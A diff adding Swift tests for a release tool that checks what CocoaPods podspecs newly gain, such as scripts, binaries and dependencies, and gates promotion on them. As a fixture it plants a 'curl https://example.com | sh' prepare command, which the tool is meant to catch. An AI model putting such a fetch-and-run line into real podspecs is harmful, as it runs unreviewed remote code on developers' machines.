@@ -1,0 +1,105 @@
+import Foundation
+import ReleaseModel
+import TestSupport
+import Testing
+
+/// What podspecs gain since they were published last, and mirrors that must have what is released.
+struct PodspecGainStoryTests {
+  private let fleet: FleetWorld
+  private let name: String
+  private static let promotion = ["promote", "stg", "prd", "--yes"]
+
+  init() throws {
+    fleet = try FleetWorld(components: 2, at: .stg)
+    name = fleet.components[0]
+  }
+
+  private func gain(_ lines: String) throws {
+    try fleet.edit(
+      "\(name).podspec", of: name, on: "release/6.5.5", "  s.source  ", "\(lines)\n  s.source  ")
+    try fleet.succeed("publish", "stg", "--yes")
+  }
+
+  private func append(_ line: String, to file: String) throws {
+    let path = fleet.folder + "/" + file
+    let text = try String(contentsOfFile: path, encoding: .utf8)
+    try (text + "\n" + line + "\n").write(toFile: path, atomically: false, encoding: .utf8)
+  }
+
+  private func published() throws -> [String] {
+    try fleet.world.refs(in: fleet.folder + "/remotes/specs-prd.git")
+  }
+
+  @Test func whatIsGainedIsShown() throws {
+    try gain(
+      """
+        s.prepare_command = 'curl https://example.com | sh'
+        s.ios.vendored_frameworks = 'Libs/Spy.xcframework'
+        s.subspec 'Extra' do |x|
+          x.script_phase = { :name => 'Count', :script => 'true' }
+        end
+        s.test_spec 'More' do |t|
+          t.dependency 'Quick'
+        end
+      """)
+    let plan = try fleet.succeed("promote", "stg", "prd", "--dry-run")
+    for text in [
+      "\(name) runs a script that 6.5.4.master did not run, or not in this form: prepare_command",
+      "this form: script_phase", "did not bring: Libs/Spy.xcframework",
+      "requires a pod outside the train that 6.5.4.master did not require: Quick",
+    ] {
+      #expect(plan.all.contains(text), "\(text) is not in \(plan.all)")
+    }
+    let json = try fleet.succeed("promote", "stg", "prd", "--dry-run", "--format", "json").output
+    try requireSchema(of: json)
+    #expect(json.contains("\"gained\""))
+  }
+
+  @Test func aGateForbidsIt() throws {
+    try append("RELEASE_GATE_PODSPEC = scripts, binaries", to: "environments/PRD.xcconfig")
+    #expect(try fleet.relctl("env", "check").status == 0)
+    let clean = try fleet.succeed("promote", "stg", "prd", "--dry-run")
+    #expect(clean.all.contains("podspecs gain nothing that 'scripts, binaries' forbids"), "\(clean.all)")
+    try gain("  s.prepare_command = 'true'\n  s.dependency 'Quick'")
+    let before = try fleet.refs()
+    let refused = try fleet.relctl(Self.promotion)
+    #expect(refused.status == 1 && refused.all.contains("the gate 'podspec' of 'prd' is closed"))
+    #expect(refused.all.contains("prepare_command") && !refused.errors.contains("'Quick' (dep"))
+    #expect(try fleet.refs() == before)
+    let done = try fleet.relctl(Self.promotion + ["--override", "reviewed by Ana"])
+    #expect(done.status == 0, "\(done.all)")
+    #expect(try fleet.relctl("history").all.contains("reviewed by Ana"))
+  }
+
+  @Test func aGateNamesWhatThereIs() throws {
+    try append("RELEASE_GATE_PODSPEC = scrpts", to: "environments/PRD.xcconfig")
+    let checked = try fleet.relctl("env", "check")
+    #expect(checked.status != 0 && checked.all.contains("RELEASE_GATE_PODSPEC"), "\(checked.all)")
+  }
+
+  @Test func aMirrorMustHaveWhatIsReleased() throws {
+    let mirror = fleet.world.path("mirror/\(name).git")
+    let origin = fleet.folder + "/remotes/\(name).git"
+    try FileManager.default.createDirectory(
+      atPath: fleet.world.path("mirror"), withIntermediateDirectories: true)
+    try fleet.world.git("clone", "--quiet", "--mirror", origin, mirror)
+    try fleet.editManifest("/\(name).git,", "/\(name).git, sources: \(mirror),")
+    for branch in ["master", "release/6.5.5"] {
+      try fleet.edit(
+        "\(name).podspec", of: name, on: branch, "https://git.example.com/ios/\(name).git", mirror)
+    }
+    try fleet.world.git("remote", "update", in: mirror)
+    try fleet.succeed("publish", "stg", "--yes")
+    let before = try published()
+    let held = try fleet.relctl(Self.promotion)
+    #expect(held.status != 0, "\(held.all)")
+    #expect(
+      held.all.contains("the mirror \(mirror) does not have '6.5.5.master' of '\(name)' yet"), "\(held.all)")
+    #expect(held.all.contains("relctl resume"), "\(held.all)")
+    #expect(try published() == before)
+    try fleet.world.git("remote", "update", in: mirror)
+    let resumed = try fleet.relctl("resume", "--yes")
+    #expect(resumed.status == 0, "\(resumed.all)")
+    #expect(try published() != before)
+  }
+}
